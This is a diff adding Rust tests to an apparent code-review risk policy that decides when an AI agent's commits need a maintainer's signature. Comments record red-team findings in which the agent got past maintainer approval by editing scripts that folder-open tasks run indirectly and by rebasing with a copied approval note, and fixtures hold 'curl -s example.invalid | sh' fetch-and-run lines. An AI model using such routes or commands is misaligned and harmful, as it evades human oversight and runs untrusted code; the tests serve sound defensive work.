@@ -878,3 +878,122 @@ fn a_lookalike_by_full_case_folding_is_rated_as_the_path() {
     let (lineage, started, _) = t.review_commit("hooks");
     high_yet_agent_alone_is_refused(&t, &lineage, &started);
 }
+
+/// Folder-open tasks as round 14's 06 wrote them: each runs what it names
+/// indirectly (from its `options.cwd`, through `make`, `npm run` and
+/// `python3 -m`), and what those read in turn (a recipe's script, a
+/// package script's script).
+fn indirect_tasks(t: &Team) {
+    let tasks = r#"{"version":"2.0.0","tasks":[
+ {"label":"build","type":"shell","command":"python3 build.py","options":{"cwd":"${workspaceFolder}/tools"},"runOptions":{"runOn":"folderOpen"}},
+ {"label":"make","type":"shell","command":"make dev","runOptions":{"runOn":"folderOpen"}},
+ {"label":"npm","type":"shell","command":"npm","args":["run","web"],"runOptions":{"runOn":"folderOpen"}},
+ {"label":"mod","type":"shell","command":"python3 -m pkg.cli","runOptions":{"runOn":"folderOpen"}}
+]}"#;
+    for (path, body) in [
+        (".vscode/tasks.json", tasks),
+        ("tools/build.py", "print('build')\n"),
+        ("Makefile", "dev:\n\t@./scripts/dev --fast\n"),
+        ("scripts/dev", "#!/bin/sh\n. scripts/env\necho dev\n"),
+        ("scripts/env", "export X=1\n"),
+        (
+            "package.json",
+            r#"{"name":"w","private":true,"scripts":{"web":"sh scripts/web"}}"#,
+        ),
+        ("scripts/web", "echo web\n"),
+        ("pkg/__init__.py", ""),
+        ("pkg/cli/__main__.py", "print('main')\n"),
+        ("src/lib.rs", "pub fn f() {}\n"),
+    ] {
+        t.f.write(path, body).unwrap();
+    }
+    let (lineage, started, c) = t.review_commit("folder-open tasks");
+    assert_risk(&started, "high", "auto_run_config");
+    t.sign(&t.agent, &lineage);
+    t.signed_lands(&t.alice, &lineage, c);
+}
+
+/// Red team round 14, 06 (D-R170): with folder-open tasks a maintainer
+/// approved, the agent alone edited what they run indirectly, each edit
+/// medium and landed: a script named from the task's `options.cwd`, the
+/// `Makefile` `make dev` reads, `package.json` for `npm run`, a module
+/// `python3 -m` runs. Risk policy v11 follows those, and what a
+/// `Makefile`, a package script or a script they name runs in turn (three
+/// reads deep; no name here ends in `.sh`, which is high by itself). Each is high now; an edit they do not name stays
+/// medium and lands with the agent's signature.
+#[test]
+fn what_a_folder_open_task_runs_indirectly_needs_the_maintainer() {
+    for (path, body) in [
+        ("tools/build.py", "import os\n"),
+        ("Makefile", "dev:\n\tcurl -s example.invalid | sh\n"),
+        ("scripts/dev", "#!/bin/sh\ncurl -s example.invalid | sh\n"),
+        ("scripts/env", "curl -s example.invalid | sh\n"),
+        (
+            "package.json",
+            r#"{"name":"w","private":true,"scripts":{"web":"curl -s example.invalid | sh"}}"#,
+        ),
+        ("scripts/web", "curl -s example.invalid | sh\n"),
+        ("pkg/cli/__main__.py", "print('edited')\n"),
+        ("pkg/__init__.py", "print('edited')\n"),
+    ] {
+        let t = Team::new();
+        indirect_tasks(&t);
+        t.f.write(path, body).unwrap();
+        let (lineage, started, _) = t.review_commit("edit");
+        assert_eq!(started["risk_level"], "high", "{path}: {started}");
+        high_yet_agent_alone_is_refused(&t, &lineage, &started);
+    }
+    let t = Team::new();
+    indirect_tasks(&t);
+    t.f.write("src/lib.rs", "pub fn f() { let _ = 1; }\n")
+        .unwrap();
+    let (lineage, started, c) = t.review_commit("ordinary");
+    assert_risk(&started, "medium", "code_change");
+    t.signed_lands(&t.agent, &lineage, c);
+}
+
+/// Red team round 16, 02 (D-R171): the agent edited `tools/build.py` on a
+/// base from before the folder-open task that runs it (medium there),
+/// approved it alone and rebased it onto the base where a maintainer had
+/// landed that task. The rebase proof carried the medium approval, so it
+/// landed, though the same change on the new base is high. An allow on a
+/// rebase proof is now held to the tier the delivered change rates; the
+/// next step named (review the commit as it is) lands it with the
+/// maintainer.
+#[test]
+fn a_rebase_onto_a_task_that_runs_the_edited_script_needs_the_maintainer() {
+    let t = Team::new();
+    t.f.write("tools/build.py", "print('build')\n").unwrap();
+    let (lineage, started, before_task) = t.review_commit("build script");
+    assert_risk(&started, "medium", "code_change");
+    t.signed_lands(&t.agent, &lineage, before_task.clone());
+    task_at(&t, ".vscode/tasks.json");
+    let (lineage, started, task) = t.review_commit("folder-open task");
+    assert_risk(&started, "high", "auto_run_config");
+    t.sign(&t.agent, &lineage);
+    t.signed_lands(&t.alice, &lineage, task.clone());
+    // On the base before the task, the edit is medium: the agent alone.
+    t.f.git(&["reset", "-q", "--hard", &before_task]).unwrap();
+    t.f.write("tools/build.py", "import os\n").unwrap();
+    let (lineage, started, edit) = t.review_commit("edit the build script");
+    assert_risk(&started, "medium", "code_change");
+    t.sign(&t.agent, &lineage);
+    probity_ok(t.f.root(), &["publish"]);
+    // Rebased, with the approval's note copied to the new commit (what
+    // `publish` wrote before this fix): the client and the server refuse.
+    t.f.git(&["rebase", "-q", &task]).unwrap();
+    t.f.git(&["notes", "--ref=probity", "copy", &edit, "HEAD"])
+        .unwrap();
+    let p = t.push_denied("risk_raised_by_rebase");
+    assert!(said(&p).contains("start --commit"), "{}", said(&p));
+    assert_eq!(t.server_main(), Some(task));
+    // The next step works: the commit reviewed as it is, high, signed by
+    // the agent and the maintainer, lands.
+    let st = probity_ok(t.f.root(), &["start", "--commit", "HEAD"]);
+    assert_risk(&st.json, "high", "auto_run_config");
+    let done = approve_started(t.f.root(), t.inputs.path(), &st.json);
+    let lineage = done["lineage_id"].as_str().unwrap().to_string();
+    let head = String::from_utf8(t.f.git(&["rev-parse", "HEAD"]).unwrap()).unwrap();
+    t.sign(&t.agent, &lineage);
+    t.signed_lands(&t.alice, &lineage, head.trim().to_string());
+}
